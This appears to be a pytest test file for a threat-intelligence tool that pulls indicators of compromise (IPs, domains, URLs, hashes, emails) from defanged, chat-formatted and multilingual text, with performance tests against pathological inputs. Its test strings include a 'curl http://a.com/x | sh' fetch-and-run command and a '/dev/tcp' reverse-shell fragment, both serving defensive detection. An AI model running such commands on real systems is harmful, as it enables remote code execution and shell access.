"""Finding indicators: what someone posts, and what is found in it."""

import importlib.util
import json
import os
import time
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.support.values import VALUES, found
from vt import extract
from vt.indicators import MAX_CANDIDATES, defang, read

SHARED = Path(os.environ.get("SHARED") or Path(__file__).parents[3] / "shared")
CORPORA = SHARED / "corpora" / "ioc"
BENCH = SHARED / "tools" / "ioc_bench" / "bench.py"
GOOD = 0.97
"""F1 that finding has to reach."""

MD5 = "44d88612fea8a8f36de82e1278abb02f"
SHA1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709"
SHA256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("beacon to 185.220.101.45 seen", ["ipv4 185.220.101.45"]),
        ("C2 at 2A02:6B8:0:1::feed:ff.", ["ipv6 2a02:6b8:0:1::feed:ff"]),
        ("it calls Update-CDN.net now", ["domain update-cdn.net"]),
        ("open https://Drop.top/A?b=C", ["url https://drop.top/A?b=C"]),
        (f"md5 {MD5.upper()}", [f"md5 {MD5}"]),
        (f"sha1={SHA1}", [f"sha1 {SHA1}"]),
        (f"{SHA256}  a.sh", [f"sha256 {SHA256}"]),
        ("from ceo@paypa1.co", ["email ceo@paypa1.co"]),
    ],
)
def test_all_eight_kinds_are_found_in_running_text(text, expected):
    """Each kind is found between words, and normalised."""
    assert found(text) == expected


def test_they_come_in_order_and_once():
    """Indicators come in the order of their first appearance, however differently they are written again."""
    text = f"b.com a[.]com 8.8.8.8 B.COM hxxp://a.com/x {MD5} 8[.]8[.]8[.]8 http://a.com/x {MD5.upper()}"
    assert found(text) == ["domain b.com", "domain a.com", "ipv4 8.8.8.8", "url http://a.com/x", f"md5 {MD5}"]


def test_what_was_written_is_kept_refanged():
    """`asked` is how it was written, without the defanging."""
    assert [indicator.written for indicator in extract("hxxps://Evil[.]COM/x")] == ["https://Evil.COM/x"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("it called hxxps[://]cdn[.]evil[.]com/a[.]php today", ["url https://cdn.evil.com/a.php"]),
        ("evil(.)com, bad{.}net; worse[dot]org", ["domain evil.com", "domain bad.net", "domain worse.org"]),
        ("evil [.] com and 1.2.3 [.] 4", ["domain evil.com", "ipv4 1.2.3.4"]),
        ("someone said evil dot co dot uk", ["domain evil.co.uk"]),
        (
            "bob[at]evil[dot]com, eve @ thief.net, ann AT bad DOT org",
            ["email bob@evil.com", "email eve@thief.net", "email ann@bad.org"],
        ),
        ("2001[:]67c[:]2e8[:][:]1", ["ipv6 2001:67c:2e8::1"]),
        ("http:// evil .com /path", ["url http://evil.com/path"]),
        ("hxxp://unknown[.]suffix/x", ["url http://unknown.suffix/x"]),
        ("it was invoice[.]zip, not a file", ["domain invoice.zip"]),
    ],
)
def test_defanged_ones_are_found(text, expected):
    """Defanging is undone, and what was defanged counts where its plain form would be doubted."""
    assert found(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("<https://a.com/x?y=1&amp;z=2|click> now", ["url https://a.com/x?y=1&z=2"]),
        ("<https://evil.com/|https://bank.com>", ["url https://evil.com/"]),
        ("<http://evil.com|evil.com> it was", ["domain evil.com"]),
        ("<http://README.md|README.md> again", []),
        ("hxxp://<http://evil.com/x|evil.com/x>", ["url http://evil.com/x"]),
        ("<mailto:a@b.com|a@b.com> <mailto:c@d.com>", ["email a@b.com", "email c@d.com"]),
        ("<@U012AB3CD|bob.com> <#C012AB3CD|inc.net> <!subteam^S1|@ops.org> <!here>", []),
        ("<!date^1732230000^{date_num}|on evil.com> <tel:+15550132|555>", []),
        (
            "&gt; quoted evil.com &lt;evil.net&gt; a.com/?x&amp;copy=1",
            ["domain evil.com", "domain evil.net", "url http://a.com/?x&copy=1"],
        ),
        ("```curl http://a.com/x | sh```", ["url http://a.com/x"]),
    ],
)
def test_chat_markup_is_understood(text, expected):
    """Links count and labels do not, unless the client made the link; mentions, channels and dates are skipped."""
    assert found(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("münchen-bank.de", ["domain xn--mnchen-bank-thb.de"]),
        ("https://пример.com/я", ["url https://xn--e1afmkfd.com/я"]),
        ("恶意域名：bad.com，IP为5.6.7.8。", ["domain bad.com", "ipv4 5.6.7.8"]),
        ("食狮.com.cn と xn--fiqs8s.com", ["domain xn--85x722f.com.cn", "domain xn--fiqs8s.com"]),
        ("“evil.com’s” «bad.net»", ["domain evil.com", "domain bad.net"]),
    ],
)
def test_every_script_is_read(text, expected):
    """International names become punycode, and scripts without spaces do not stick to what they surround."""
    assert found(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("https://x.com/commit/" + SHA1, ["url https://x.com/commit/" + SHA1]),
        ("evil.com.The next", ["domain evil.com"]),
        ("VirusShare_" + MD5 + " and " + SHA256 + ".exe", [f"md5 {MD5}", f"sha256 {SHA256}"]),
        (
            "sklep.com.pl allegro.biz.pl www.wp.pl",
            ["domain sklep.com.pl", "domain allegro.biz.pl", "domain www.wp.pl"],
        ),
        ("the domain was kasa.pl", ["domain kasa.pl"]),
        (
            "*.evil.com .bad.net _dmarc.evil.org",
            ["domain evil.com", "domain bad.net", "domain _dmarc.evil.org"],
        ),
        (
            "Booking.com Passport.Net EVIL.COM",
            ["domain booking.com", "domain passport.net", "domain evil.com"],
        ),
        ("5.6.7.1-5.6.7.9 5.6.7.8/32", ["ipv4 5.6.7.1", "ipv4 5.6.7.9", "ipv4 5.6.7.8"]),
        ("/dev/tcp/5.6.7.8/443 5.6.7.9->x", ["ipv4 5.6.7.8", "ipv4 5.6.7.9"]),
        (
            "ip6:2a02:6b8::1 [2a02:6b8::2]:443 2a02:6b8::3/128",
            ["ipv6 2a02:6b8::1", "ipv6 2a02:6b8::2", "ipv6 2a02:6b8::3"],
        ),
        (
            "smtp.mailfrom=a@b.com a+tag=x@b.com a@b.com:pw git@github.com:x/y",
            ["email a@b.com", "email a+tag=x@b.com", "domain github.com"],
        ),
        (
            "bob@example.name www.evil.name self@evil.com",
            ["email bob@example.name", "domain www.evil.name", "email self@evil.com"],
        ),
        (
            r'{"m":"from 5.6.7.8\nhost evil.com\r\nhttp://a.com/x\nend"}',
            ["ipv4 5.6.7.8", "domain evil.com", "url http://a.com/x"],
        ),
        ("user.id is not evil.id", ["domain evil.id"]),
        ("foo.onion", ["domain foo.onion"]),
    ],
)
def test_what_looks_doubtful_and_is_one_is_found(text, expected):
    """Real hosts, hashes and addresses that look like something else are found all the same."""
    assert found(text) == expected


@given(st.text(max_size=400))
def test_any_text_can_be_searched(text):
    """No text makes the search fail, and whatever it finds could have been typed by itself."""
    assert all(read(indicator.value) == indicator for indicator in extract(text))


PIECES = st.sampled_from(
    "a 1 . [.] ( ) [ ] { } < > @ dot DOT AT hxxp:// http:// :// : :: / \\ | & &amp; - _ evil.com 5.6.7.8 食 é www. "
    f"{MD5} <http://a.b|a.b> <mailto:a@b.com> urldefense.com/v3/__ ?u= , ; ' \" ` * \u200b \ud800 \n".split(
        " "
    )
)


@given(st.lists(PIECES, max_size=60).map("".join))
def test_any_mixture_of_its_own_signs_can_be_searched(text):
    """Not even texts made of nothing but what the search looks for make it fail or give nonsense."""
    assert all(read(indicator.value) == indicator for indicator in extract(text))


@given(st.lists(VALUES, max_size=12).map(" , ".join))
def test_what_was_found_is_found_again_when_defanged(text):
    """The values that were found, defanged as they are shown, are found again."""
    values = [indicator.value for indicator in extract(text)]
    assert [indicator.value for indicator in extract(" , ".join(map(defang, values)))] == values


HOSTILE = (
    *(
        "=3D",
        "=3D=\n",
        " _a",
        "_a_ ",
        "[/b]",
        "[a]",
        "{code:",
        "&amp;amp;lt;",
        "&#46",
        "１．",
        "http:\\\\a\\",
    ),
    *(
        "1.2.3.4.5000 > ",
        "1.2.3.4/24 ",
        "1.2.3.4:443/tcp ",
        "IP 1.1.1.1.1 ",
        "045.083.",
        "HIER_DIRECT/",
        "a_a_DIRECT/",
    ),
    *(
        "ja3 ",
        f'"ja3":{{"a":"{MD5}"',
        f"ja3{MD5} hash ",
        "td.click ",
        ".a.live > ",
        "a.live{color:",
        "W32/A.CC!",
    ),
    *("http://http:", "h00p://", "xxxxx://", "a.com/',", "version 1.2.3.4 ", "v1.2,", "$('a.live"),
)


@pytest.mark.parametrize("unit", HOSTILE)
def test_hostile_texts_take_linear_time(unit):
    """Ten times the text takes about ten times as long: far less than the hundred of quadratic time."""
    short, long = (_seconds((unit * 20_000)[:length]) for length in (20_000, 200_000))
    assert long < max(40 * short, 0.2)


def _seconds(text):
    start = time.process_time()
    extract(text)
    return time.process_time() - start


@pytest.mark.parametrize(
    "unit",
    [
        "1.",
        "a.",
        "[.]",
        "a[.]",
        "hxxp://",
        "a@",
        "f:",
        "::",
        "<http://a.b|",
        "http://a.com/(",
        " . [ ",
        " DOT a",
        "食a.com",
        "[ ",
        "a-b.",
    ],
)
def test_hostile_texts_come_to_an_end(unit):
    """Forty thousand characters of nothing but signs are searched, and little is given."""
    assert len(extract((unit * 40_000)[:40_000])) <= 1


def test_what_is_given_is_capped():
    """A text with more indicators than anyone posts gives the first of them."""
    text = " ".join(f"host{number}.com" for number in range(5_000))
    assert len(extract(text)) == MAX_CANDIDATES


@pytest.mark.skipif(
    not (CORPORA.is_dir() and BENCH.is_file()), reason="the labelled texts are not beside the project"
)
def test_the_labelled_texts_are_answered_well():
    """In each collection of labelled texts, nearly all indicators are found and nearly nothing else."""
    spec = importlib.util.spec_from_file_location("bench", BENCH)
    bench = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(bench)
    cases = [
        json.loads(line) | {"_f": path.stem}
        for path in CORPORA.glob("*.jsonl")
        for line in path.read_text().splitlines()
    ]
    scores, misses = bench.accuracy(_by_kind, bench.make_global_only(cases))
    by_corpus = {name: score["F1"] for name, score in scores["by_corpus"].items()}
    assert min(by_corpus.values()) >= GOOD, json.dumps([by_corpus, misses[:20]])


def _by_kind(text):
    answer = {}
    for indicator in extract(text):
        answer.setdefault(indicator.kind.value, set()).add(indicator.value)
    return answer
